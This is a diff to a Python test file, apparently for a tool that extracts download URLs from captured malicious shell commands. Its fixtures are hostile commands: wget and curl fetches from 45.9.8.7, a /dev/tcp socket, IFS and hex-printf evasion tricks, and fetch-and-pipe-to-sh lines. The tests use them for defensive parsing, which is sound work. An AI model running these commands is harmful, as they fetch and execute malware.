@@ -44,6 +44,7 @@ ROWS: list[tuple[str, bytes, list[str]]] = [
     ("dev tcp", b"exec 3<>/dev/tcp/45.9.8.7/8080; cat <&3 > /tmp/x", ["tcp://45.9.8.7:8080/"]),
     ("variables", b"H=45.9.8.7; for a in arm mips; do wget http://$H/$a; done", [f"{H}/arm", f"{H}/mips"]),
     ("IFS", b"wget${IFS}http://45.9.8.7/x${IFS}-O${IFS}/tmp/x", [f"{H}/x"]),
+    ("IFS behind a URL that no shell reads", b"x http://45.9.8.7/x$IFS-O y", [f"{H}/x"]),
     ("IFS$9", b";wget$IFS$9http://45.9.8.7/x;", [f"{H}/x"]),
     ("hex printf", rb"""$(printf '\x77\x67\x65\x74') http://45.9.8.7/x""", [f"{H}/x"]),
     ("quotes in the word", b"""w'g'e"t" http://45.9.8.7/x""", [f"{H}/x"]),
@@ -126,6 +127,16 @@ sh again.sh
 def test_tools_and_names_are_kept() -> None:
     (download,) = extract(b"cd /tmp && curl -o bot http://45.9.8.7/x", HOST).downloads
     assert (download.tool, download.name.rpartition("/")[2]) == ("curl", "bot")
+
+
+def test_a_url_that_the_shell_completes_is_not_fetched_as_it_stands() -> None:
+    loop = b"for a in arm mips; do curl -O http://45.9.8.7/bot.$a; curl http://45.9.8.7/`echo $a`; done"
+    assert fetched(loop) == [f"{H}/bot.arm", f"{H}/arm", f"{H}/bot.mips", f"{H}/mips"]
+
+
+def test_what_only_passes_through_is_called_as_it_is_at_its_server() -> None:
+    found = extract(b"wget -q http://45.9.8.7/b/x.sh -O - | sh; curl http://45.9.8.7/y?z | sh", HOST).downloads
+    assert [download.name for download in found] == ["x.sh", "y"]
 
 
 def test_a_private_address_is_told_and_replaced_by_the_attackers() -> None:
